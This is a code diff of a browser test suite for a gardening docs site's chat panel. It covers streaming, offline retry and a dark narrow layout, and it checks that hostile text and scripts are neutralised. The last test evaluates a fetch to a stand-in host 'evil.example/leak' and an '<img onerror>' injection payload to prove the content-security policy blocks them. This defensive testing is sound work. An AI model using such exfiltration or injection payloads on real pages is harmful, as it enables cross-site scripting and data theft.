@@ -1,9 +1,11 @@
 // The chat of the demo page in a real browser, against a server whose every frame the test chooses.
-import type { Page } from 'playwright-core'
-import { describe, expect, test } from 'vitest'
-import { lacksBrowser, takeScreenshot } from './browser.ts'
-import { useChatPage } from './chat-page.ts'
-import { chatId, restoreToken } from './scripted-chat.ts'
+// What a turn shows when frames are stale, lost or odd is tested in web/components/turn.test.ts and chat-session.test.ts.
+import type { Browser, BrowserContextOptions, Page } from 'playwright-core'
+import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest'
+import { attacks } from './attacks.ts'
+import { lacksBrowser, openBrowser, openPage, takeScreenshot, type WatchedPage } from './browser.ts'
+import { watchHostile } from './hostile-page.ts'
+import { chatId, openScriptedChat, type ScriptedChat, type ScriptedTurn } from './scripted-chat.ts'
 
 const sources = [
   { title: 'Watering', url: 'https://docs.example.org/garden/watering.html#when' },
@@ -26,15 +28,48 @@ garden water --bed tulips --minutes 10
 See [the plan](https://docs.example.org/garden/plan.html) for \`--minutes\`.`
 
 describe.skipIf(lacksBrowser)('the chat of the demo page', () => {
-  const chat = useChatPage({
-    initial_message: 'Hello! Ask me about **gardens**.',
-    suggested_questions: ['When do I water tulips?', 'How do I fight slugs?'],
-    actions: [{ name: 'help', button_text: 'Ask a gardener', url: 'https://help.example.org/' }],
+  let browser: Browser
+  let server: ScriptedChat
+  let watched: WatchedPage
+  let page: Page
+
+  beforeAll(async () => {
+    browser = await openBrowser()
+  }, 60_000)
+  afterAll(() => browser?.close())
+  beforeEach(async () => {
+    server = await openScriptedChat({
+      initial_message: 'Hello! Ask me about **gardens**.',
+      suggested_questions: ['When do I water tulips?', 'How do I fight slugs?'],
+      actions: [{ name: 'help', button_text: 'Ask a gardener', url: 'https://help.example.org/' }],
+    })
+    await open()
   })
-  const { ask, prose, shows, open } = chat
+  afterEach(async () => {
+    await page.context().close()
+    await server.close()
+  })
+
+  async function open(options: BrowserContextOptions = {}) {
+    await watched?.page.context().close()
+    watched = await openPage(browser, { viewport: { width: 1280, height: 860 }, ...options })
+    page = watched.page
+    await page.goto(server.url)
+    await expect.poll(() => page.textContent('h1')).toBe('Garden docs')
+  }
+
+  /** Types a question into the panel and sends it; answers the turn that the server is to play. */
+  async function ask(question: string): Promise<ScriptedTurn> {
+    if (await page.isHidden('#chat')) await page.click('#ask')
+    await page.fill('#question', question)
+    await page.keyboard.press('Enter')
+    return server.next()
+  }
+
+  const prose = () => page.locator('.turn .prose').last()
+  const shows = (text: string) => expect.poll(() => prose().textContent()).toContain(text)
 
   test('streams stages, then the answer, then its sources', async () => {
-    const { page, server, watched } = chat
     await page.fill('#query', 'when do I water')
     await page.keyboard.press('Shift+Enter')
     const turn = await server.next()
@@ -93,59 +128,7 @@ describe.skipIf(lacksBrowser)('the chat of the demo page', () => {
     expect([...watched.hosts]).toEqual([new URL(server.url).host])
   })
 
-  test('goes on with the conversation, and finds it again after a reload', async () => {
-    const { page, server } = chat
-    const first = await ask('How do I water?')
-    first.token('In the ')
-    first.final('In the morning.', { sources: sources.slice(0, 1) })
-    await shows('In the morning.')
-    const second = await ask('And in winter?')
-    expect(second.message).toMatchObject({ chatId, restoreToken })
-    second.final('Rarely.')
-    await shows('Rarely.')
-    server.answers.set(`chats/${chatId}/`, ({ headers }) =>
-      headers['x-chat-restore-token'] !== restoreToken ? null : conversation,
-    )
-    await page.reload()
-    await shows('Rarely.')
-    expect(await page.locator('.question').allTextContents()).toEqual(['How do I water?', 'And in winter?'])
-    expect(await page.locator('.source').count()).toBe(1)
-    expect(await page.getAttribute('.thumb-up', 'aria-pressed')).toBe('true')
-    const third = await ask('And then?')
-    expect(third.message).toMatchObject({ chatId, restoreToken })
-
-    await page.click('#chat-new')
-    await third.gone
-    await expect.poll(() => page.locator('.turn').count()).toBe(0)
-    expect((await ask('Something else')).message).not.toHaveProperty('chatId')
-  })
-
-  const message = { sources: [], feedback: null, incomplete: false, stop_reason: null }
-  const conversation = {
-    messages: [
-      { ...message, uuid: 'q1', role: 'user', content: 'How do I water?' },
-      {
-        ...{ ...message, uuid: 'a1', role: 'assistant', content: 'In the morning.' },
-        ...{ sources: sources.slice(0, 1), feedback: 1, stop_reason: 'stop' },
-      },
-      { ...message, uuid: 'q2', role: 'user', content: 'And in winter?' },
-      { ...message, uuid: 'a2', role: 'assistant', content: 'Rarely.', stop_reason: 'stop' },
-    ].reverse(),
-    next: null,
-  }
-
-  test('a conversation that is gone is forgotten', async () => {
-    const { page } = chat
-    const turn = await ask('How do I water?')
-    turn.final('In the morning.')
-    await shows('In the morning.')
-    await page.reload()
-    await expect.poll(() => page.textContent('#chat-welcome')).toContain('Hello! Ask me about gardens.')
-    expect((await ask('Again')).message).not.toHaveProperty('chatId')
-  })
-
   test('a long answer is read from its beginning, and a reader who has scrolled stays there', async () => {
-    const { page } = chat
     const place = () =>
       page.evaluate(`(() => {
       const log = document.querySelector('#chat-log').getBoundingClientRect()
@@ -170,46 +153,7 @@ describe.skipIf(lacksBrowser)('the chat of the demo page', () => {
     expect(await place()).toBe(before)
   })
 
-  test('a cut answer is continued in place', async () => {
-    const { page, server } = chat
-    const turn = await ask('Tell me all')
-    turn.final('The first half', { incomplete: true, stopReason: 'length', continuationAvailable: true })
-    await page.waitForSelector('[data-name=go-on]')
-    server.answers.set('chats/', () => ({
-      chat_uuid: chatId,
-      ai_message: { message: 'The first half and the second.', sources, continuationAvailable: false },
-    }))
-    await page.click('[data-name=go-on]')
-    await shows('The first half and the second.')
-    expect(await page.locator('.turn').count()).toBe(1)
-    expect(await page.locator('[data-name=go-on]').count()).toBe(0)
-    expect(server.calls.at(-1)).toMatchObject({
-      ...{ method: 'POST', path: 'chats/' },
-      headers: { 'x-chat-restore-token': restoreToken },
-    })
-    const messageId = `22222222-2222-4222-8222-${turn.message.requestId.slice(-12)}`
-    expect(server.calls.at(-1)?.body).toEqual({ chat_uuid: chatId, continue_message_id: messageId })
-  })
-
-  test('thumbs say what the reader thinks, once the server has heard', async () => {
-    const { page, server } = chat
-    const turn = await ask('How do I water?')
-    turn.final('In the morning.')
-    const messageId = `22222222-2222-4222-8222-${turn.message.requestId.slice(-12)}`
-    const path = `messages/${messageId}/feedback/`
-    server.answers.set(path, () => ({}))
-    await page.click('.thumb-down')
-    await expect.poll(() => page.getAttribute('.thumb-down', 'aria-pressed')).toBe('true')
-    expect(server.calls.at(-1)).toMatchObject({ path, body: { reaction: 0 } })
-    expect(server.calls.at(-1)?.headers['x-chat-restore-token']).toBe(restoreToken)
-    server.answers.delete(path)
-    await page.click('.thumb-up')
-    await expect.poll(() => page.textContent('.turn-notice')).toContain('did not reach the server')
-    expect(await page.getAttribute('.thumb-down', 'aria-pressed')).toBe('true')
-  })
-
   test('works by keyboard alone, and shows what the project offers', async () => {
-    const { page, server, watched } = chat
     await page.keyboard.press('Tab')
     expect(await focused(page)).toBe('ask')
     await page.keyboard.press('Enter')
@@ -248,9 +192,20 @@ describe.skipIf(lacksBrowser)('the chat of the demo page', () => {
     expect(watched.errors).toEqual([])
   })
 
+  test('a reader who goes offline keeps the draft, and asks again once online', async () => {
+    const turn = await ask('How do I water?')
+    turn.token('Slowly, and with')
+    await shows('Slowly, and with')
+    await page.context().setOffline(true)
+    await expect.poll(() => page.textContent('.turn-notice')).toBe('The connection was lost.')
+    await page.context().setOffline(false)
+    await expect.poll(() => page.textContent('[data-name=retry]')).toBe('Ask again')
+    await page.click('[data-name=retry]')
+    expect((await server.next()).message.message).toBe('How do I water?')
+  })
+
   test('stands in place of the search on a narrow screen, in the dark too', async () => {
     await open({ colorScheme: 'dark', viewport: { width: 390, height: 760 } })
-    const { page } = chat
     const turn = await ask('When do I water?')
     turn.status('contextualizing', 'completed')
     turn.token('Early')
@@ -261,6 +216,56 @@ describe.skipIf(lacksBrowser)('the chat of the demo page', () => {
     await takeScreenshot(page, 'chat-narrow-dark')
     await page.click('#chat-close')
     expect(await page.isVisible('#query')).toBe(true)
+  })
+
+  test('shows hostile text of the project and of a restored conversation as text', async () => {
+    const messages = attacks.flatMap((attack, index) => [
+      { uuid: `q${index}`, role: 'user', content: attack, sources: [], feedback: null },
+      {
+        ...{ uuid: `a${index}`, role: 'assistant', content: attack, feedback: null, stop_reason: 'stop' },
+        sources: [{ title: attack, url: attack }],
+      },
+    ])
+    const saying = {
+      initial_message: attacks.join('\n\n'),
+      suggested_questions: attacks.slice(0, 20),
+      actions: attacks.map((attack) => ({ name: attack, button_text: attack, url: attack })),
+    }
+    server.answers.set('', () => ({ slug: 'docs', name: 'Garden docs', config: { chat: saying } }))
+    const watch = await watchHostile(page, server.origin)
+    await page.reload()
+    await page.click('#ask')
+    await expect.poll(() => page.textContent('#chat-welcome')).toContain(attacks[0])
+    await page.click('#chat-welcome .suggestion')
+    const turn = await server.next()
+    turn.final('Done.')
+    await page.waitForSelector('.thumb-up')
+    expect(await page.locator('.turn-foot a').count()).toBe(0)
+    await watch.expectHarmless()
+    server.answers.set(`chats/${chatId}/`, () => ({ messages: messages.toReversed() }))
+    await page.reload()
+    await expect.poll(() => page.locator('.turn').count()).toBe(attacks.length)
+    expect(await page.locator('.question').allTextContents()).toEqual(attacks)
+    await watch.expectHarmless()
+  })
+
+  test('has a policy that lets no script run and no request out', async () => {
+    const policy = (await fetch(server.url)).headers.get('content-security-policy') ?? ''
+    for (const rule of ["default-src 'none'", "script-src 'self'", "connect-src 'self'", "base-uri 'none'"]) {
+      expect(policy).toContain(rule)
+    }
+    expect(policy).not.toContain('unsafe')
+    const outcome = await page.evaluate(`(async () => {
+      const left = await fetch('https://evil.example/leak').then(() => 'left', () => 'held')
+      let built = 'built'
+      try {
+        document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.owned=1">')
+      } catch {
+        built = 'held'
+      }
+      return [left, built, 'owned' in window]
+    })()`)
+    expect(outcome).toEqual(['held', 'held', false])
   })
 })
 
